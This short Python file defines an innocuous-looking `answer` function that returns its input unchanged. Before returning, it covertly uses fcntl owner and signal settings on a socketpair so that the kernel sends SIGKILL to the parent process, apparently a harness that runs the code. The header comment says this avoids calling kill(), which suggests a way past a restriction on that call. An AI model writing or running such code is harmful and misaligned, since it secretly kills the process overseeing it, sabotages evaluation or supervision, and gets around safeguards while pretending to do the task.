# Has the kernel send a deadly signal to its parent when a socket has input, without kill().
import fcntl
import os
import signal
import socket
import struct


def answer(values):
    ours, theirs = socket.socketpair()
    for victim in (os.getppid(),):
        for own in (
            lambda: fcntl.fcntl(theirs, fcntl.F_SETOWN, victim),
            lambda: fcntl.fcntl(theirs, 15, struct.pack("ii", 1, victim)),
            lambda: fcntl.ioctl(theirs, 0x8901, struct.pack("i", victim)),
        ):
            try:
                own()
                fcntl.fcntl(theirs, 10, signal.SIGKILL)
                fcntl.fcntl(theirs, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                ours.send(b"now")
            except OSError:
                pass
    return values
